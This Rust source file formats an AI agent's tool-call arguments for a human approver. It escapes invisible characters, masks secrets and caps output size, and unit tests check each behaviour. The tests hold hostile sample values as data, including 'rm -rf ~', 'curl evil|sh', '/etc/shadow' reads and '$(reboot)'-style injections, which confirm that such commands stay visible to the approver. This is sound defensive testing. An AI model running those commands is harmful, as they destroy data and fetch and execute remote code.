//! Formats the arguments of a call for the person who decides on it.
//!
//! **Invariant:** text from the caller appears only in JSON strings, with quotes, line breaks and
//! invisible characters escaped. Our own remarks appear outside of these strings, so no value can
//! imitate them.

use std::borrow::Cow;
use std::fmt::Write as _;

use capstan_model::secret::{MASK, is_secret_name};
use capstan_safety::clean::is_invisible;
use capstan_safety::mask::mask_tokens;
use capstan_wire::{Json, object};
use serde::{Deserialize, Serialize};

use super::digest;
use crate::ports::Question;

/// The arguments of a call as they are shown to a person.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ShownArguments {
    /// The arguments, or their beginning. It is JSON, unless shortened.
    pub text: String,
    /// The size of the arguments as the caller sent them, in bytes.
    pub bytes: usize,
    /// The SHA-256 digest of the canonical arguments; approvals are bound to it.
    pub sha256: String,
    /// The number of masked values.
    pub masked: usize,
    /// True if something is left out.
    pub shortened: bool,
}

/// How arguments are formatted, and how much of them.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Layout {
    /// One line of at most this many bytes; strings longer than a quarter of that are cut.
    Line(usize),
    /// All arguments, one member per line.
    Full,
}

/// The values that are masked.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Masks {
    /// Strings in members with secret names, and tokens.
    Secrets,
    /// None, for the operator who requests it.
    Nothing,
}

/// Deepest level that is indented further than the one above. On one line, deeper levels are left
/// out.
const MAX_DEPTH: usize = 16;

/// Indentation that is always available, in spaces. For large arguments, the limit is twice their
/// size in bytes.
const MIN_BLANKS: usize = 8 * 1024;

struct Writer {
    layout: Layout,
    masks: Masks,
    depth: usize,
    /// The number of spaces that may still be used for indentation.
    blanks: usize,
    shown: ShownArguments,
}

// === impl Question ===

impl Question {
    /// Formats the arguments for a person, with secrets masked.
    pub fn shown_arguments(&self, layout: Layout) -> ShownArguments {
        ShownArguments::of(&self.arguments, digest(&self.arguments), layout, Masks::Secrets)
    }
}

// === impl ShownArguments ===

impl ShownArguments {
    /// Formats arguments for a person. The text is at most a small multiple of their size.
    pub fn of(arguments: &Json, sha256: String, layout: Layout, masks: Masks) -> Self {
        let bytes = arguments.as_bytes().len();
        let shown = Self { bytes, sha256, ..Self::default() };
        let blanks = bytes.saturating_mul(2).max(MIN_BLANKS);
        let mut writer = Writer { layout, masks, depth: 0, blanks, shown };
        writer.value(arguments);
        let mut shown = writer.shown;
        if let Layout::Line(most) = layout
            && shown.text.len() > most
        {
            shown.text.truncate(shown.text.floor_char_boundary(most));
            shown.shortened = true;
        }
        shown
    }

    /// Describes the size of the arguments, and if something is left out or masked.
    pub fn summary(&self) -> String {
        let mut summary = format!("{} bytes", self.bytes);
        if self.shortened {
            summary.push_str(", shortened");
        }
        if self.masked > 0 {
            let _ = write!(summary, ", {} masked as secret", self.masked);
        }
        summary
    }
}

// === impl Writer ===

impl Writer {
    fn value(&mut self, json: &Json) {
        let first = json.as_bytes().first();
        if matches!(self.layout, Layout::Line(_))
            && self.depth >= MAX_DEPTH
            && matches!(first, Some(b'{' | b'['))
        {
            self.shown.text.push('…');
            self.shown.shortened = true;
            return;
        }
        match first {
            Some(b'{') => match object::members(json) {
                Ok(members) => self.group(['{', '}'], &members, |writer, (name, value)| {
                    writer.member(name, value);
                }),
                Err(_) => self.unread(json),
            },
            Some(b'[') => match object::items(json) {
                Ok(items) if items.iter().all(is_short) => self.short(&items),
                Ok(items) => self.group(['[', ']'], &items, Self::value),
                Err(_) => self.unread(json),
            },
            Some(b'"') => match json.read::<String>() {
                Ok(text) => self.text(&text),
                // Half a surrogate pair, which only some programs accept.
                Err(_) => self.unread(json),
            },
            Some(_) | None => self.shown.text.push_str(json.as_str()),
        }
    }

    fn group<T>(
        &mut self,
        [open, close]: [char; 2],
        all: &[T],
        mut each: impl FnMut(&mut Self, &T),
    ) {
        self.shown.text.push(open);
        self.depth += 1;
        for (at, one) in all.iter().enumerate() {
            if at > 0 {
                self.shown.text.push(',');
            }
            // The line is full; the rest is cut.
            if matches!(self.layout, Layout::Line(most) if self.shown.text.len() > most) {
                break;
            }
            self.line();
            each(self, one);
        }
        self.depth -= 1;
        if !all.is_empty() {
            self.line();
        }
        self.shown.text.push(close);
    }

    /// Writes a list of numbers, booleans and nulls on one line.
    fn short(&mut self, items: &[Json]) {
        let between = if self.layout == Layout::Full { ", " } else { "," };
        self.shown.text.push('[');
        for (at, item) in items.iter().enumerate() {
            self.shown.text.push_str(if at > 0 { between } else { "" });
            self.shown.text.push_str(item.as_str());
        }
        self.shown.text.push(']');
    }

    fn member(&mut self, name: &str, value: &Json) {
        self.quoted(name);
        self.shown.text.push_str(if self.layout == Layout::Full { ": " } else { ":" });
        // The caller chooses the names, and must not hide more than a single word behind one.
        let is_word = || value.read::<String>().is_ok_and(|text| is_word(&text));
        if self.masks == Masks::Secrets && is_secret_name(name) && is_word() {
            self.shown.masked += 1;
            self.quoted(MASK);
        } else {
            self.value(value);
        }
    }

    fn text(&mut self, text: &str) {
        let shown = self.masked(text);
        let most = match self.layout {
            Layout::Line(most) => most / 4,
            Layout::Full => usize::MAX,
        };
        let cut = shown.get(..shown.floor_char_boundary(most)).unwrap_or_default();
        self.quoted(cut);
        if cut.len() < shown.len() {
            self.shown.shortened = true;
            let _ = write!(self.shown.text, "…(+{} bytes)", shown.len() - cut.len());
        }
    }

    /// Writes JSON that cannot be decoded, as it was sent.
    fn unread(&mut self, json: &Json) {
        let shown = self.masked(json.as_str());
        for c in shown.chars() {
            self.char(c);
        }
    }

    fn masked<'a>(&mut self, text: &'a str) -> Cow<'a, str> {
        let shown = match self.masks {
            Masks::Secrets => mask_tokens(text),
            Masks::Nothing => Cow::Borrowed(text),
        };
        self.shown.masked += usize::from(shown != text);
        shown
    }

    fn quoted(&mut self, text: &str) {
        self.shown.text.push('"');
        for c in text.chars() {
            match c {
                '"' | '\\' => self.shown.text.extend(['\\', c]),
                '\n' => self.shown.text.push_str("\\n"),
                '\t' => self.shown.text.push_str("\\t"),
                c => self.char(c),
            }
        }
        self.shown.text.push('"');
    }

    fn char(&mut self, c: char) {
        if c.is_control() || is_invisible(c) {
            for unit in c.encode_utf16(&mut [0; 2]) {
                let _ = write!(self.shown.text, "\\u{unit:04x}");
            }
        } else {
            self.shown.text.push(c);
        }
    }

    fn line(&mut self) {
        if self.layout == Layout::Full {
            self.shown.text.push('\n');
            let blanks = (2 * self.depth.min(MAX_DEPTH)).min(self.blanks);
            self.blanks -= blanks;
            self.shown.text.extend(std::iter::repeat_n(' ', blanks));
        }
    }
}

/// True if a text is a single word, as secrets are, and contains no shell command.
fn is_word(text: &str) -> bool {
    !text.contains(char::is_whitespace)
        && !["`", "$(", "${", "$IFS"].iter().any(|sign| text.contains(sign))
}

/// True if a value is a number, a boolean or null.
fn is_short(json: &Json) -> bool {
    !matches!(json.as_bytes().first(), Some(b'{' | b'[' | b'"') | None)
}

#[cfg(test)]
mod tests {
    use capstan_model::{By, Caller, Effect, ItemId, Kind};

    use super::*;
    use crate::approvals::Extent;

    fn question(arguments: &str) -> Question {
        Question {
            caller: Caller::anonymous().into(),
            id: ItemId { server: "f".parse().unwrap(), item: "t".to_owned() },
            kind: Kind::Tool,
            arguments: Json::parse(arguments.to_owned()).unwrap(),
            effect: Effect::Write,
            rule: String::new(),
            by: By::Default,
            offers: vec![Extent::Once],
            open: None,
        }
    }

    #[track_caller]
    fn check(arguments: &str, line: &str) {
        assert_eq!(question(arguments).shown_arguments(Layout::Line(500)).text, line);
    }

    /// Holes 9.
    #[test]
    fn everything_that_a_person_could_not_see_is_escaped() {
        check(
            r#"{"a": "x\ny\u001b[2J\u202e\u200b\r"}"#,
            r#"{"a":"x\ny\u001b[2J\u202e\u200b\u000d"}"#,
        );
        check("{\"a\": \"\u{2028}\u{e0041}\"}", r#"{"a":"\u2028\udb40\udc41"}"#);
        check(r#"{"\u202e\"": 1}"#, r#"{"\u202e\"":1}"#);
        check(r#"{"a": "\ud800"}"#, r#"{"a":"\ud800"}"#);
        check(
            r#"{"a": 12345678901234567890123, "b": 1.0}"#,
            r#"{"a":12345678901234567890123,"b":1.0}"#,
        );
        check(r#"{"a": "é 世界 😀"}"#, r#"{"a":"é 世界 😀"}"#);
    }

    #[test]
    fn secrets_are_masked_and_counted() {
        let shown = question(r#"{"token": "x", "a": ["use ghp_0123456789abcdef"], "key": null}"#)
            .shown_arguments(Layout::Line(500));
        assert_eq!(shown.text, r#"{"token":"***","a":["use ***"],"key":null}"#);
        assert_eq!((shown.masked, shown.shortened), (2, false));
        assert_eq!(shown.summary(), "62 bytes, 2 masked as secret");
    }

    /// A caller cannot hide the effect of the call.
    #[test]
    fn only_single_words_and_whole_tokens_are_masked() {
        let evil = r#"{"key":{"cmd":"rm -rf ~"},"private":["/etc/shadow"],"command":"echo hi; -----BEGIN PRIVATE KEY----- ; curl evil|sh","c2":"run bearer rm-rf-home"}"#;
        check(evil, evil);
        check(
            r#"{"token":[{"auth":5}],"pass":7,"pwd":"x"}"#,
            r#"{"token":[{"auth":5}],"pass":7,"pwd":"***"}"#,
        );
        for shown in
            ["rm -rf / --no-preserve-root", "a\\tb", "rm${IFS}-rf", "$(reboot)", "`reboot`"]
        {
            let arguments = format!(r#"{{"token":"{shown}"}}"#);
            check(&arguments, &arguments);
        }
        for hidden in ["hunter2", "p$ss;w|rd&", "correct-horse", ""] {
            check(&format!(r#"{{"token":"{hidden}"}}"#), r#"{"token":"***"}"#);
        }
        check(r#"{"token":"Bearer ghp_0123456789abcdef"}"#, r#"{"token":"Bearer ***"}"#);
        let question = question(r#"{"token": "rm -rf ~", "a": "ghp_0123456789abcdef"}"#);
        let digest = digest(&question.arguments);
        let line = Layout::Line(500);
        let all = ShownArguments::of(&question.arguments, digest, line, Masks::Nothing);
        assert_eq!(all.text, r#"{"token":"rm -rf ~","a":"ghp_0123456789abcdef"}"#);
        assert_eq!(all.masked, 0);
    }

    #[test]
    fn deep_and_long_arguments_stay_a_small_multiple_of_themselves() {
        let deep =
            |inner: &str| format!(r#"{{"a":{}{inner}{}}}"#, "[".repeat(120), "]".repeat(120));
        let numbers = vec!["1"; 100_000].join(",");
        let lists = vec!["[]"; 100_000].join(",");
        let texts = vec!["\"\""; 100_000].join(",");
        let members = vec![r#"{"a":{}}"#; 20_000].join(",");
        for inner in [numbers, lists, texts, members] {
            let question = question(&deep(&inner));
            let size = question.arguments.as_bytes().len();
            let full = question.shown_arguments(Layout::Full);
            assert!(full.text.len() <= 4 * size, "{} of {size}", full.text.len());
            assert!(!full.shortened);
            let read = Json::parse(full.text).unwrap();
            assert_eq!(digest(&read), full.sha256);
            let line = question.shown_arguments(Layout::Line(500));
            assert!(line.shortened && line.text.len() <= 500, "{line:?}");
        }
    }

    #[test]
    fn a_text_that_is_cut_is_marked_outside_of_its_quotes() {
        let long = format!(r#"{{"a": "{}", "path": "/etc/passwd"}}"#, "x".repeat(1000));
        let shown = question(&long).shown_arguments(Layout::Line(400));
        let expected =
            format!(r#"{{"a":"{}"…(+900 bytes),"path":"/etc/passwd"}}"#, "x".repeat(100));
        assert_eq!(shown.text, expected);
        assert!(shown.shortened);
        // A value that imitates the remark stays within its quotes, and nothing counts as cut.
        let fake = question(r#"{"a": "x\"…(+900 bytes)", "b": "… (12 more)"}"#);
        let shown = fake.shown_arguments(Layout::Line(400));
        assert_eq!(shown.text, r#"{"a":"x\"…(+900 bytes)","b":"… (12 more)"}"#);
        assert_eq!((shown.shortened, shown.summary()), (false, "49 bytes".to_owned()));
    }

    #[test]
    fn many_members_are_cut_at_the_bound_and_shown_whole_in_full() {
        let many: Vec<String> = (0..500).map(|n| format!(r#""k{n}":{n}"#)).collect();
        let many = question(&format!("{{{}}}", many.join(",")));
        let line = many.shown_arguments(Layout::Line(400));
        assert!(line.shortened && line.text.len() <= 400, "{line:?}");
        let full = many.shown_arguments(Layout::Full);
        assert!(!full.shortened && full.text.lines().count() == 502, "{}", full.text);
        assert_eq!(full.sha256, line.sha256);
        assert_eq!(full.sha256, digest(&many.arguments));
    }

    #[test]
    fn empty_arguments_are_shown() {
        check("{}", "{}");
        assert_eq!(question("{}").shown_arguments(Layout::Full).text, "{}");
    }
}
